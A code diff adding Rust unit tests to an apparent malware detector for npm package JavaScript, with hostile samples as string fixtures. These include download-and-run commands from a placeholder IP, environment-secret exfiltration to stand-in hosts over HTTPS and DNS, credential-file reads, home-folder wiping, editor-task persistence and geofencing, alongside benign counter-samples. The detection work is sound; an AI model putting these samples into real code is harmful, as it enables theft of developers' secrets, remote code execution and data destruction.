@@ -719,3 +719,275 @@ fn preloads_written_into_the_users_npmrc_are_persistence() {
         facts(quiet)
     );
 }
+
+#[test]
+fn download_by_one_command_run_by_another() {
+    // PowerShell fetches a program; a second call starts it.
+    let two_commands = r#"
+        const cp = require('node:child_process');
+        cp.execSync(`powershell -NoProfile -Command "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/u.exe', 'u.exe')"`);
+        cp.spawn('u.exe', [], { stdio: 'ignore' });
+    "#;
+    assert!(
+        kinds(two_commands).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(two_commands)
+    );
+    // curl saves a file; node makes it executable, in a function the module calls.
+    let chmod = r"
+        const { execSync } = require('child_process');
+        const fs = require('fs');
+        function fetchTool() {
+          execSync('curl -sSo /tmp/.cache-tool http://198.51.100.7/t');
+          fs.chmodSync('/tmp/.cache-tool', 0o755);
+        }
+        fetchTool();
+    ";
+    assert!(
+        kinds(chmod).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(chmod)
+    );
+    // Downloading an archive and unpacking it runs nothing that was downloaded.
+    let unpack = r"
+        const { execSync } = require('child_process');
+        execSync('curl -sSLo node.tar.gz https://example.invalid/node.tar.gz');
+        execSync('tar -xzf node.tar.gz -C vendor');
+    ";
+    assert!(
+        !kinds(unpack).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(unpack)
+    );
+    // A download that nothing runs is only a download.
+    let only = r"
+        require('child_process').execSync('curl -o data.json https://example.invalid/data.json');
+        console.log(require('fs').readFileSync('data.json', 'utf8'));
+    ";
+    assert!(
+        !kinds(only).contains(&K::DownloadExecute),
+        "{:?}",
+        facts(only)
+    );
+}
+
+#[test]
+fn flows_found_when_a_function_ends_belong_to_it() {
+    // The write-then-run flow is judged when the function's region closes; it is the
+    // function's, so a package that calls the function at import runs it then.
+    let src = r"
+        const https = require('https');
+        const fs = require('fs');
+        const { spawn } = require('child_process');
+        function update() {
+          https.get('https://example.invalid/agent', (res) => {
+            res.pipe(fs.createWriteStream('/tmp/agent'));
+            spawn('/tmp/agent', [], { detached: true });
+          });
+        }
+        update();
+    ";
+    let analysed = javascript::analyze(src, "index.js");
+    let flow = analysed
+        .behaviours
+        .iter()
+        .find(|b| b.kind == K::DownloadExecute)
+        .expect("download-execute");
+    assert!(!flow.top_level);
+    assert_ne!(flow.function, customs_analyze::reach::TOP, "{flow:?}");
+}
+
+#[test]
+fn recursive_delete_of_the_home_folder_is_destruction() {
+    let wiper = r"
+        const fs = require('node:fs');
+        const os = require('os');
+        const path = require('path');
+        try { fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true }); } catch (e) {}
+        require('fs-extra').removeSync(os.homedir());
+    ";
+    let found = facts(wiper);
+    assert_eq!(
+        found.iter().filter(|f| f.0 == K::Destruction).count(),
+        2,
+        "{found:?}"
+    );
+    let rimraf = "const rimraf = require('rimraf'); rimraf.sync('/');";
+    assert!(
+        kinds(rimraf).contains(&K::Destruction),
+        "{:?}",
+        facts(rimraf)
+    );
+    // A tool that cleans its own build output or a folder it is given.
+    let clean = r"
+        const fs = require('fs');
+        const path = require('path');
+        fs.rmSync(path.join(__dirname, 'dist'), { recursive: true, force: true });
+        module.exports = (dir) => fs.rmSync(dir, { recursive: true });
+        require('rimraf').sync('coverage');
+    ";
+    assert!(
+        !kinds(clean).contains(&K::Destruction),
+        "{:?}",
+        facts(clean)
+    );
+}
+
+#[test]
+fn for_of_over_a_constant_list_stands_for_every_item() {
+    let src = r"
+        const fs = require('fs');
+        const os = require('os');
+        const path = require('path');
+        const found = [];
+        for (const name of ['.npmrc', '.git-credentials', '.aws/credentials']) {
+          try { found.push(fs.readFileSync(path.join(os.homedir(), name), 'utf8')); } catch (e) {}
+        }
+        for (const dir of ['Desktop', 'Documents']) {
+          fs.rmSync(path.join(os.homedir(), dir), { recursive: true, force: true });
+        }
+    ";
+    let k = kinds(src);
+    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
+    // A loop over the package's own folders reads nothing secret.
+    let own = r"
+        const fs = require('fs');
+        const path = require('path');
+        for (const f of ['README.md', 'CHANGELOG.md']) {
+          console.log(fs.readFileSync(path.join(__dirname, f), 'utf8').length);
+        }
+    ";
+    assert!(!kinds(own).contains(&K::SecretRead), "{:?}", facts(own));
+}
+
+#[test]
+fn environment_harvested_key_by_key_is_a_secret() {
+    let for_in = r"
+        const https = require('https');
+        const bag = {};
+        for (const k in process.env) {
+          if (/token|secret|key/i.test(k)) bag[k] = process.env[k];
+        }
+        https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(bag));
+    ";
+    assert!(
+        kinds(for_in).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(for_in)
+    );
+    let keys = r"
+        const https = require('https');
+        const out = {};
+        Object.keys(process.env).forEach(function (k) { out[k] = process.env[k]; });
+        https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(out));
+    ";
+    assert!(
+        kinds(keys).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(keys)
+    );
+    // Reading a few named settings and reporting only what is missing sends nothing secret.
+    let check = r"
+        const https = require('https');
+        const missing = ['PORT', 'NODE_ENV'].filter((k) => !(k in process.env));
+        https.get('https://example.invalid/ping?missing=' + missing.length);
+    ";
+    assert!(
+        !kinds(check).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(check)
+    );
+}
+
+#[test]
+fn a_private_dns_resolver_is_a_network_call() {
+    let src = r"
+        const { Resolver } = require('dns');
+        const r = new Resolver();
+        r.setServers(['203.0.113.53']);
+        const data = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || '').toString('hex');
+        r.resolveTxt(data + '.t.example.invalid', () => {});
+    ";
+    let k = kinds(src);
+    assert!(k.contains(&K::Network), "{:?}", facts(src));
+    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
+}
+
+#[test]
+fn editor_task_run_on_folder_open_is_persistence() {
+    let src = r"
+        const fs = require('fs');
+        const path = require('path');
+        const { task } = require('./template');
+        const dir = path.join(process.env.INIT_CWD || process.cwd(), '.vscode');
+        fs.mkdirSync(dir, { recursive: true });
+        fs.writeFileSync(path.join(dir, 'tasks.json'), JSON.stringify(task));
+    ";
+    assert!(kinds(src).contains(&K::Persistence), "{:?}", facts(src));
+    // A scaffolder's constant build task does not run on its own.
+    let scaffold = r#"
+        const fs = require('fs');
+        fs.writeFileSync('.vscode/tasks.json', '{"version":"2.0.0","tasks":[{"label":"build","type":"npm","script":"build"}]}');
+    "#;
+    assert!(
+        !kinds(scaffold).contains(&K::Persistence),
+        "{:?}",
+        facts(scaffold)
+    );
+}
+
+#[test]
+fn items_of_a_list_made_from_secrets_are_secrets() {
+    let src = r"
+        const https = require('https');
+        const env = process.env;
+        const keys = Object.keys(env).filter((k) => /TOKEN|SECRET/.test(k));
+        const out = {};
+        keys.forEach(function (k) { out[k] = env[k]; });
+        https.request({ host: 'cache.example.invalid', method: 'POST' }).end(JSON.stringify(out));
+    ";
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(src)
+    );
+}
+
+#[test]
+fn geofencing_by_time_zone_or_geolocated_country() {
+    let zone = r"
+        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+        const zones = new Set(['Europe/Moscow', 'Europe/Minsk', 'Asia/Omsk']);
+        if (zones.has(tz)) { console.log('a message'); }
+    ";
+    assert!(kinds(zone).contains(&K::AntiAnalysis), "{:?}", facts(zone));
+    let country = r"
+        const https = require('https');
+        https.get('https://geo.example.invalid/json', (res) => {
+          let body = '';
+          res.on('data', (c) => (body += c));
+          res.on('end', () => {
+            const where = JSON.parse(body).country_name.toLowerCase();
+            if (where.includes('belarus') || where === 'russia') { require('fs').writeFileSync('/tmp/x', 'y'); }
+          });
+        });
+    ";
+    assert!(
+        kinds(country).contains(&K::AntiAnalysis),
+        "{:?}",
+        facts(country)
+    );
+    // Formatting dates in the user's zone, and translations chosen by language.
+    let benign = r"
+        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+        const label = tz === 'UTC' ? 'UTC' : tz.replace('_', ' ');
+        const lang = (navigator.language || 'en').slice(0, 2);
+        const plural = lang === 'ru' ? 'many' : 'other';
+        module.exports = { label, plural };
+    ";
+    assert!(
+        !kinds(benign).contains(&K::AntiAnalysis),
+        "{:?}",
+        facts(benign)
+    );
+}
